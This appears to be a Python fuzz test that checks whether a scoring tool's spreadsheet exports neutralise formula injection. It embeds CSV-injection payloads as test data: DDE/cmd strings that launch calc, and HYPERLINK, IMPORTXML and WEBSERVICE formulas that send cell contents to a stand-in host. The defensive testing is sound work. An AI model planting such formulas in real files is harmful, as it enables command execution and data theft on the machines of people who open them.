"""A thousand formulas through every field of every export for spreadsheets: none may run, and all
must be found again as they were.

    python fuzz/formulas.py [--count 1000] [--seed 0]

`vocation score --excel` writes CSV and TSV; each payload stands in a column name, in the scored
text, in another column, in the input's nested JSON and in the name of a career (from a stand-in for
the model, since only names matter here). Every file is then read as spreadsheets do that are set to
comma, semicolon, tab or bar, whatever its own separator is; a cell is live if, once what cannot be
seen is passed over, it begins with a sign that begins formulas. Exit status 1 where a cell is live
or is not found again by `vocation.serving.writing.original`.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import random
import re
import sys
import tempfile
import unicodedata
from dataclasses import dataclass
from pathlib import Path

from vocation.records import Recommendation, Suggestion
from vocation.serving.batch import score
from vocation.serving.writing import original

CALLS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org/?x="&A1,"click")',
    "1+1",
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    'WEBSERVICE("http://example.org")',
    "2+5+cmd|' /C calc'!A0",
    "msexcel|'\\..\\..\\cmd.exe /c calc'!''",
)
SIGNS = ("=", "+", "-", "@", "=-", "+=", "@=", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "−")
BEFORE = (
    "",
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\u2003",
    "\u200b",
    "\ufeff",
    "\u200e",
    "\x0b",
    "\x01",
    '"',
    "'",
    "''",
    '""',
    "' ",
    "\u00ad",
)
AROUND = (
    "",
    "",
    "I like animals",
    "x;",
    "x,",
    "x\t",
    "x|",
    "x\n",
    "x\r\n",
    'x";"',
    'x","',
    "';",
    "x; ",
    "x\n\n",
    "x,\u00a0",
)


def payload(rng: random.Random) -> str:
    """One text that wants to be a formula, in some disguise."""
    return (
        rng.choice(AROUND)
        + "".join(rng.choices(BEFORE, k=rng.choice((1, 1, 2))))
        + rng.choice(SIGNS)
        + rng.choice(CALLS)
    )


@dataclass
class Echo:
    """Answers every text with the careers it was given."""

    classes: list[str]

    def recommend(self, texts: list[str], top_k: int) -> list[Recommendation]:
        careers = tuple(Suggestion(name, 0.5, "even odds") for name in self.classes)
        return [Recommendation("match", None, careers[:top_k]) for _ in texts]


def live(cell: str) -> bool:
    """Whether a spreadsheet would run the cell: an oracle apart from the product's own pattern.
    Plain numbers only count.
    """
    plain = unicodedata.normalize("NFKC", cell).replace("\u2212", "-")
    seen = plain.lstrip('"')
    while seen and (seen[0].isspace() or unicodedata.category(seen[0]) in ("Cc", "Cf")):
        seen = seen[1:].lstrip('"')
    return (
        seen[:1] in tuple("=+-@")
        and bool(seen)
        and not re.fullmatch(r"[-+]?[\d.]+(e-?\d+)?", plain)
    )


def write(source: Path, payloads: list[str], separator: str) -> list[list[str]]:
    """A file to score, with `payloads` everywhere; returns its column names and rows, as they
    should come back.
    """
    if source.suffix == ".jsonl":
        entries = [{"text": text, f"a{payloads[0]}": [text, {"x": text}]} for text in payloads]
        source.write_text("\n".join(map(json.dumps, entries)), encoding="utf-8")
        return [list(entries[0]), *([str(value) for value in entry.values()] for entry in entries)]
    rows = [
        ["id", "text", *payloads[:5]],
        *([str(i), text, *payloads[i % 7 : i % 7 + 5]] for i, text in enumerate(payloads)),
    ]
    with source.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, delimiter=separator, quoting=csv.QUOTE_ALL).writerows(rows)
    return rows


def check(output: Path, separator: str, expected: list[list[str]]) -> tuple[int, int]:
    """How many cells are live under any separator, and how many rows do not come back as they
    were.
    """
    with output.open(encoding="utf-8-sig", newline="") as file:
        text = file.read()
    alive = 0
    for sign in ",;\t|":
        alive += sum(
            live(cell)
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign)
            for cell in row
        )
        alive += (
            sum(live(piece) for piece in re.split(f"[{re.escape(sign)}\r\n]", text))
            if sign != separator
            else 0
        )  # quotes taken for letters
    read = [
        [original(cell) for cell in row]
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
    ]
    return alive, abs(len(read) - len(expected)) + sum(
        a[: len(b)] != b for a, b in zip(read, expected, strict=False)
    )


def main() -> None:
    arguments = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    for name, usual in (("count", 1000), ("seed", 0)):
        arguments.add_argument(f"--{name}", type=int, default=usual)
    args = arguments.parse_args()
    rng = random.Random(args.seed)
    payloads = list(dict.fromkeys(payload(rng) for _ in range(5 * args.count)))[: args.count]
    alive = lost = cells = 0
    with tempfile.TemporaryDirectory() as name:
        for begin in range(0, len(payloads), 50):
            some = payloads[begin : begin + 50]
            for separator, file in (
                (",", "in.csv"),
                (";", "in.csv"),
                ("\t", "in.tsv"),
                ("|", "in.txt"),
                (",", "in.jsonl"),
            ):
                rows = write(Path(name) / file, some, separator)
                output = Path(name) / rng.choice(("out.csv", "out.tsv"))
                score(Path(name) / file, output, "text", Echo(some[5:10]), excel=True)  # type: ignore[arg-type]
                found = check(output, separator, rows)
                alive, lost, cells = (
                    alive + found[0],
                    lost + found[1],
                    cells + len(rows) * (len(rows[0]) + 11),
                )
    print(
        "| payloads | cells written | live | rows not found again |\n|---|---|---|---|\n|"
        f" {len(payloads):,} | {cells:,} | {alive} | {lost} |"
    )
    sys.exit(bool(alive or lost))


if __name__ == "__main__":
    main()
